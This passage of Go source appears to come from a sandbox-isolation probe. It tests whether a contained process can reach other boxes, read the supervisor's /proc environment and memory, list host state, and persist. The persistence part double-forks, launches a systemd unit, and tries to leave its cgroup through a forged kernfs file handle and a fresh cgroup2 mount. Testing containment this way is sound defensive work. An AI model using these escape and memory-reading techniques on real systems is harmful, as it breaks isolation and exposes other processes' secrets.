		for _, p := range processes() {
			t := fmt.Sprintf("/proc/%d/root%s", p.pid, c.BoxPath)
			if n, err := readAt(unix.AT_FDCWD, t); err == nil {
				return true, fmt.Sprintf("opened %s, read %d bytes", t, n)
			}
		}
	}
	return false, fmt.Sprintf("none of %s, nor %s under any visible process's root", strings.Join(c.BoxFiles, ", "), c.BoxPath)
}

func otherProcesses(c *escape.Config) (bool, string) {
	ps := marked(c.BoxMarker)
	if len(ps) == 0 {
		return false, fmt.Sprintf("no process of the other box in sight (%d visible)", len(processes()))
	}
	err := unix.Kill(ps[0].pid, 0)
	return true, fmt.Sprintf("the other box's process %d is in sight (signal 0: %v)", ps[0].pid, err)
}

func otherSocket(c *escape.Config) (bool, string) {
	conn, err := net.DialTimeout("unix", "@"+c.Abstract, 2*time.Second)
	if err != nil {
		return false, fmt.Sprintf("connect @%s: %v", c.Abstract, err)
	}
	conn.Close()
	return true, fmt.Sprintf("connected to the other box's @%s", c.Abstract)
}

func supervisorEnviron(c *escape.Config) (bool, string) {
	ps := marked(c.SupervisorMarker)
	if len(ps) == 0 {
		return false, "the supervisor is not in sight"
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", ps[0].pid))
	if err != nil {
		return true, fmt.Sprintf("the supervisor (%d) is in sight; environ: %v", ps[0].pid, err)
	}
	return true, fmt.Sprintf("read the supervisor's (%d) environment: %d bytes", ps[0].pid, len(b))
}

func supervisorMemory(c *escape.Config) (bool, string) {
	ps := marked(c.SupervisorMarker)
	if len(ps) == 0 {
		return false, "the supervisor is not in sight"
	}
	pid := ps[0].pid
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return true, fmt.Sprintf("the supervisor (%d) is in sight; maps: %v", pid, err)
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return true, fmt.Sprintf("the supervisor (%d) is in sight; mem: %v", pid, err)
	}
	defer mem.Close()
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
			continue
		}
		start, _, _ := strings.Cut(f[0], "-")
		addr, err := strconv.ParseUint(start, 16, 64)
		if err != nil {
			continue
		}
		if n, err := mem.ReadAt(make([]byte, 16), int64(addr)); err == nil {
			return true, fmt.Sprintf("read %d bytes of the supervisor's (%d) memory", n, pid)
		}
	}
	return true, fmt.Sprintf("the supervisor (%d) is in sight; no mapping read", pid)
}

func supervisorState(c *escape.Config) (bool, string) {
	if ents, err := os.ReadDir(c.StateDir); err == nil {
		return true, fmt.Sprintf("listed the state directory %s: %d entries", c.StateDir, len(ents))
	}
	for _, t := range c.HostFiles {
		if n, err := readAt(unix.AT_FDCWD, t); err == nil {
			return true, fmt.Sprintf("opened %s, read %d bytes", t, n)
		}
	}
	for _, p := range marked(c.SupervisorMarker) {
		if _, err := os.ReadDir(fmt.Sprintf("/proc/%d/cwd", p.pid)); err == nil {
			return true, fmt.Sprintf("listed the supervisor's (%d) working directory", p.pid)
		}
	}
	return false, fmt.Sprintf("neither %s nor a host canary by its path", c.StateDir)
}

// hold listens on the abstract socket and waits, its marker in its
// command line; it writes /run/cocoonbox-probe-hold.ready once it
// listens.
func hold(marker, abstract string) {
	ln, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	os.WriteFile("/run/cocoonbox-probe-hold.ready", []byte(marker+"\n"), 0o644)
	for {
		c, err := ln.Accept()
		if err == nil {
			c.Close()
		}
	}
}

// persist starts a process that outlives the probe (a double fork, its
// own session), which tries to leave the box's cgroup and stays; the
// probe waits for its report and answers whether it left.
func persist(marker string) (bool, string) {
	if marker == "" {
		return false, "no marker"
	}
	report := filepath.Join(os.TempDir(), "probe-persist-"+marker)
	os.Remove(report)
	// The middle process starts the holder in a session of its own and
	// exits at once: the holder's parent is then the box's init (or a
	// subreaper), as a daemon's is.
	cmd := exec.Command("/bin/sh", "-c", `setsid "$0" persist/hold "$1" </dev/null >/dev/null 2>&1 &`, "/proc/self/exe", marker)
	if exe, err := os.Executable(); err == nil {
		cmd.Args[3] = exe
	}
	if err := cmd.Run(); err != nil {
		return false, fmt.Sprintf("start the holder: %v", err)
	}
	// Root also starts one as a unit of the box's systemd, which outlives
	// a login session (logind's KillUserProcesses=yes ends the first with
	// the session that started it) and the unit the probe may run in.
	unit := ""
	if os.Geteuid() == 0 {
		exe, _ := os.Executable()
		out, err := exec.Command("systemd-run", "--no-block", "--collect", "--quiet", "--unit=probe-hold-"+marker, exe, "persist/hold", marker+".unit").CombinedOutput()
		unit = fmt.Sprintf("; a unit holder: %v %s", err, bytes.TrimSpace(out))
	}
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if b, err := os.ReadFile(report); err == nil && bytes.HasSuffix(b, []byte("\n")) {
			s := strings.TrimSpace(string(b))
			return strings.HasPrefix(s, "escaped"), s + unit
		}
		time.Sleep(50 * time.Millisecond)
	}
	return false, "the holder wrote no report in 20 s"
}

// persistHold is the persisting process: it tries to move itself to a
// cgroup outside the box (the root of its cgroup namespace, the root of a
// new cgroup2 mount, the host's root cgroup by a made-up kernfs handle),
// writes what it got to the report and waits forever.
func persistHold(marker string) {
	var notes []string
	me := []byte(strconv.Itoa(os.Getpid()))
	// left says whether the holder is outside its cgroup namespace's
	// root: the kernel shows it a path that climbs out ("0::/..").
	left := func() bool {
		cg, _ := os.ReadFile("/proc/self/cgroup")
		return strings.Contains("\n"+string(cg), "\n0::/..")
	}
	try := func(what, procs string) {
		if left() {
			return // out already: a later try would move it back in
		}
		if err := os.WriteFile(procs, me, 0); err != nil {
			notes = append(notes, fmt.Sprintf("%s: %v", what, err))
		} else {
			notes = append(notes, what+": moved")
		}
	}
	try("the cgroup namespace's root", "/sys/fs/cgroup/cgroup.procs")
	for _, m := range mounts() {
		if m.fstype != "cgroup2" {
			continue
		}
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, m.point, 0)
		if err != nil || h.Size() != 8 {
			notes = append(notes, fmt.Sprintf("name_to_handle_at %s: %v (%d bytes)", m.point, err, h.Size()))
			continue
		}
		mfd, err := unix.Open(m.point, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		// kernfs's handle is the node's 64-bit id; the root's is 1 (its
		// generation 1 above).
		for _, id := range []uint64{1, 1 | 1<<32} {
			b := make([]byte, 8)
			binary.LittleEndian.PutUint64(b, id)
			fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(h.Type(), b), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
			if err != nil {
				notes = append(notes, fmt.Sprintf("open the root cgroup by handle %#x beside %s: %v", id, m.point, err))
				continue
			}
			try("the root cgroup by handle", fmt.Sprintf("/proc/self/fd/%d/cgroup.procs", fd))
			unix.Close(fd)
		}
		unix.Close(mfd)
	}
	// A cgroup2 mount of its own (on this thread, in a mount namespace of
	// its own), whose root is the cgroup namespace's.
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
		notes = append(notes, fmt.Sprintf("unshare a mount namespace: %v", err))
	} else if dir, err := os.MkdirTemp("", "probe-cgroup2-"); err == nil {
		unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
		if err := unix.Mount("cgroup2", dir, "cgroup2", 0, ""); err != nil {
			notes = append(notes, fmt.Sprintf("mount cgroup2: %v", err))
		} else {
			try("the root of a new cgroup2 mount", filepath.Join(dir, "cgroup.procs"))
		}
	}
	cg, _ := os.ReadFile("/proc/self/cgroup")
	verdict := "stayed"
	if left() {
		verdict = "escaped"
	}
	report := filepath.Join(os.TempDir(), "probe-persist-"+marker)
	os.WriteFile(report, []byte(fmt.Sprintf("%s: pid %d in %s; %s\n", verdict, os.Getpid(), strings.TrimSpace(string(cg)), strings.Join(notes, "; "))), 0o644)
	for {
		time.Sleep(time.Hour)
	}
}
